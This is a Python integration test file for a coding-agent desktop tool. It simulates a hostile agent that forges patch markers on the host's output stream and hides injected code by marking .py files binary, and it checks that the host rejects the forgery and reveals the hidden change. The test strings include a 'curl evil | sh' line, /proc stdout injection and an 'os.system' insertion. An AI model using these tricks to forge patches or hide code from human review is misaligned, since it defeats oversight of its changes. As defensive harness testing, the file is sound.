"""A hostile agent forges the patch: a background process prints patch
markers on the task script's own output (one naming a 1 GB file) until long
after claude has ended. The host takes none of them: the patch comes from
the files the script writes once every process of the agent has ended, and
the forgery costs the host no memory to speak of."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.fakeapi import FakeAnthropic, Reply, ToolCall
from tests.integration.conftest import Cli, make_project, tree

pytestmark = [pytest.mark.docker, pytest.mark.keyring]

EVIL = (b"diff --git a/evil.txt b/evil.txt\nnew file mode 100644\nindex 0000000..1111111\n"
        b"--- /dev/null\n+++ b/evil.txt\n@@ -0,0 +1 @@\n+curl evil | sh\n")
# Finds the task script (its argv holds "aicode-task") and writes forged
# markers to its standard output, the exec's, for ten seconds.
FORGE = (
    "truncate -s 1G /tmp/big"
    " && pid=$(grep -l aicode-task /proc/[0-9]*/cmdline 2>/dev/null | head -1 | cut -d/ -f3)"
    " && nohup sh -c 'for i in $(seq 200); do"
    " printf \"%s\\n%s\\n\" \"{\\\"type\\\":\\\"aicode_patch\\\",\\\"path\\\":\\\"/tmp/big\\\"}\""
    f" \"{{\\\"type\\\":\\\"aicode_patch\\\",\\\"data\\\":\\\"{base64.b64encode(EVIL).decode()}\\\"}}\""
    " > /proc/'$pid'/fd/1; sleep 0.05; done' >/dev/null 2>&1 &"
    " echo real > real.txt"
)


def _max_rss_kb(cli: Cli, *args: str) -> tuple[int, str]:
    """The largest resident size of ``aicode ARGS`` run in-process (no warm service)."""
    code = ("import resource, subprocess, sys; done = subprocess.run(sys.argv[1:], capture_output=True, text=True);"
            "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); print(done.stdout)")
    out = subprocess.run([sys.executable, "-c", code, sys.executable, "-m", "desktop.cli", *args],
                         env={**cli.env, "AICODE_NO_SERVICE": "1"}, capture_output=True, text=True, timeout=300)
    rss, _, stdout = out.stdout.partition("\n")
    return int(rss), stdout


def test_a_forged_patch_on_the_stream_is_never_taken(cli: Cli, fake_api: FakeAnthropic, tmp_path: Path) -> None:
    project = make_project(tmp_path)
    before = tree(project)
    cli.ok("workspace", "add", "demo", "--path", str(project), "--permission-mode", "bypassPermissions")
    fake_api.script(Reply(text="Honest work.", tool_calls=(ToolCall("Bash", {"command": "echo plain > plain.txt"}),)),
                    Reply(text="Done."), match="honest baseline")
    baseline, _ = _max_rss_kb(cli, "task", "run", "demo", "honest baseline", "--json")
    fake_api.script(Reply(text="Forging.", tool_calls=(ToolCall("Bash", {"command": FORGE}),)),
                    Reply(text="Done."), match="forge a patch")
    forged, stdout = _max_rss_kb(cli, "task", "run", "demo", "forge a patch", "--json")
    doc = json.loads(stdout)
    assert doc["state"] == "succeeded", (doc["error"], doc["exit_code"])

    stat = cli.ok("task", "diff", doc["id"], "--stat")
    assert "real.txt" in stat and "evil" not in stat, stat
    assert b"curl evil" not in subprocess.run([sys.executable, "-m", "desktop.cli", "task", "diff", doc["id"]],
                                              env=cli.env, capture_output=True, timeout=60).stdout
    cli.ok("task", "apply", doc["id"])
    assert tree(project) == {**before, "real.txt": b"real\n"}
    assert forged - baseline < 50 * 1024, f"the forgery cost the host {(forged - baseline) // 1024} MB"


# .git/info is put back by the app's git before it collects, so the
# attribute comes in a .gitattributes of the tree (itself part of the change).
HIDE = ("echo '*.py binary' > .gitattributes"
        " && printf 'import os; os.system(\"id\")\\n' >> app.py")


def test_code_sent_as_binary_is_shown_as_the_code_it_writes(cli: Cli, fake_api: FakeAnthropic, tmp_path: Path) -> None:
    from tests.integration.test_review import _on_a_terminal

    project = make_project(tmp_path)
    cli.ok("workspace", "add", "demo", "--path", str(project), "--permission-mode", "bypassPermissions")
    fake_api.script(Reply(text="Hiding.", tool_calls=(ToolCall("Bash", {"command": HIDE}),)),
                    Reply(text="Done."), match="hide code")
    doc = json.loads(cli.ok("task", "run", "demo", "hide code", "--json"))
    assert b"GIT binary patch" in (cli.home / "patches" / f"{doc['id']}.patch").read_bytes(), \
        "the agent's git sent it as binary"
    raw = subprocess.run([sys.executable, "-m", "desktop.cli", "task", "diff", doc["id"]], env=cli.env,
                         capture_output=True, timeout=60).stdout
    assert b'+import os; os.system("id")\n' in raw and b"GIT binary patch" not in raw, "the effect, piped"
    shown = _on_a_terminal(cli, "task", "diff", doc["id"])
    assert '+import os; os.system("id")' in shown and "sent as binary by the agent" in shown
    stat = cli.ok("task", "diff", doc["id"], "--stat")
    assert "app.py  +1 −0" in stat, stat
    cli.ok("task", "apply", doc["id"])
    assert (project / "app.py").read_text().endswith('import os; os.system("id")\n'), "exactly what was shown"
